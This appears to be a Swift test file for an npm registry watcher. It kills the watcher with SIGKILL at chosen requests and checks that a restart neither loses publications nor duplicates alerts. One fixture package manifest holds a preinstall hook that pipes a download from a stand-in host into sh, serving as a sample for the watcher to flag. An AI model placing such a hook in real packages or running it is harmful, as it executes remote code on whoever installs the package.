// SPDX-License-Identifier: Apache-2.0

import Analysis
import Foundation
import Logging
import NPMModel
import Server
import Store
import Synchronization
import TestSupport
import Testing
import Watch

/// Serves a registry and takes down the process that asks, at the request that was chosen.
private final class DeadlyRegistry: RegistryContents {
    private let inner: MemoryRegistry
    private let state = Mutex((requests: 0, deadlyRequest: Int.max, target: pid_t(0)))

    init(_ inner: MemoryRegistry) { self.inner = inner }

    /// The `request`-th request from now on kills whoever ``aim(at:)`` names.
    func load(request: Int) { state.withLock { $0 = (0, request, 0) } }
    func aim(at target: pid_t) { state.withLock { $0.target = target } }
    var requests: Int { state.withLock { $0.requests } }

    private func count() async {
        let isDeadly = state.withLock { state in
            state.requests += 1
            return state.requests == state.deadlyRequest
        }
        guard isDeadly else { return }
        while state.withLock({ $0.target }) == 0 { await Task.yield() }
        kill(state.withLock { $0.target }, SIGKILL)
    }

    func packument(_ name: String, registry: String) async throws -> [UInt8]? {
        await count()
        let text = inner.document(name).map { String(decoding: $0, as: UTF8.self) }
        return text.map { Array($0.replacing("https://registry.example", with: registry).utf8) }
    }

    func changes(since: String, limit: Int) async throws -> FeedPage {
        await count()
        // A page of two, so that a kill between pages is tried too.
        return try await inner.changes(since: since, limit: min(limit, 2))
    }

    func newestSequence() async throws -> String {
        await count()
        return try await inner.newestSequence() ?? "0"
    }

    func packageCount() async throws -> Int { 3 }

    func tarball(_ path: String) async throws -> [UInt8]? {
        await count()
        return try? await inner.tarball(at: "https://registry.example\(path)", limit: .max)
    }
}

@Suite("The watcher as a process")
struct WatchKillTests {
    private static let lockfile = """
        {"name":"app","lockfileVersion":3,"packages":{"":{"name":"app","dependencies":{"stream":"^1.0.0"}},"node_modules/stream":{"version":"1.0.0"}}}
        """

    private func registry() -> MemoryRegistry {
        let registry = MemoryRegistry()
        for (patch, month) in zip(0..., ["01", "02", "03", "05"]) {
            registry.publish(.init("stream", "1.0.\(patch)", at: "2016-\(month)-11T10:00:00.000Z", by: "owner"))
        }
        registry.publish(.init("other", "2.0.0", at: "2016-07-01T10:00:00.000Z", by: "other"))
        registry.publish(
            .init(
                "stream", "1.0.4", at: "2018-09-20T10:00:00.000Z", by: "stranger",
                manifest: #"{"scripts":{"preinstall":"curl -s http://collect.example/x | sh"}}"#))
        return registry
    }

    private func ids(in file: URL) throws -> [String] {
        guard FileManager.default.fileExists(atPath: file.path) else { return [] }
        return try String(contentsOf: file, encoding: .utf8).split(separator: "\n").map { line in
            try #require(try JSONDocument(String(line)).root["id"]?.string)
        }
    }

    @Test("Killed with signal 9 at any request and started again, it loses no publication and doubles no alert")
    func survivesKill9() async throws {
        let deadly = DeadlyRegistry(registry())
        let folder = FileManager.default.temporaryDirectory.appending(path: "lapwing-kill-\(UUID().uuidString)")
        try FileManager.default.createDirectory(at: folder, withIntermediateDirectories: true)
        defer { try? FileManager.default.removeItem(at: folder) }
        try Data(Self.lockfile.utf8).write(to: folder.appending(path: "package-lock.json"))
        let server = RecordingServer(contents: deadly, logger: Logger(label: "test") { _ in SwiftLogNoOpLogHandler() })
        let tried = try await server.serving { base in
            var request = 0
            while true {
                request += 1
                let store = folder.appending(path: "\(request).sqlite")
                let alerts = folder.appending(path: "\(request).jsonl")
                let added = try await Program.run("watchers", "add", folder.path, "--store", store.path)
                #expect(added.status == 0, "\(added.errors)")
                let words = [
                    "watch", "--registry", base, "--since", "0", "--until-caught-up", "--format", "json", "--store", store.path,
                    "--alerts-file", alerts.path,
                ]
                deadly.load(request: request)
                let first = try Program.Running(words)
                deadly.aim(at: first.process.processIdentifier)
                let firstResult = try await first.wait()
                let wasKilled = firstResult.status == -SIGKILL
                deadly.load(request: .max)
                let second = try await Program.Running(words).wait()
                #expect(second.status == 0, "after a kill at request \(request): \(second.errors)")
                let told = try ids(in: alerts)
                #expect(told.count == 1 && Set(told).count == told.count, "killed at request \(request): \(told)")
                let judged = try await SQLiteStore(path: store.path)
                    .judgements(ofPackages: ["stream", "other"], atLeast: .clear).map { "\($0.release)" }
                #expect(Set(judged) == ["stream@1.0.0", "stream@1.0.1", "stream@1.0.2", "stream@1.0.3", "stream@1.0.4", "other@2.0.0"])
                if !wasKilled { return request - 1 }
            }
        }
        #expect(tried >= 8, "only \(tried) requests were tried")
    }
}
